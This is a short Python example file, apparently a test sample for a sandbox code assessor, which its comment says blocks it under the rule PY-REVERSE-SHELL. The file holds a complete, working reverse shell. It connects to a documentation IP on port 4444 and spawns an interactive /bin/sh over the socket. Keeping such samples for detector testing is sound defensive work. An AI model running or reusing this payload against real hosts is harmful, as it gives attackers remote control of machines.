# A classic Python reverse shell, kept as the example of code the assessor
# BLOCKS (`mai-sandbox assess examples/reverse_shell.py` -> BLOCKED,
# PY-REVERSE-SHELL). NEVER run it outside a sandbox: it connects to the given
# host and hands it an interactive shell on this machine.
import os
import pty
import socket

HOST = "203.0.113.10"  # TEST-NET-3: documentation address, routes nowhere
PORT = 4444

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect((HOST, PORT))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
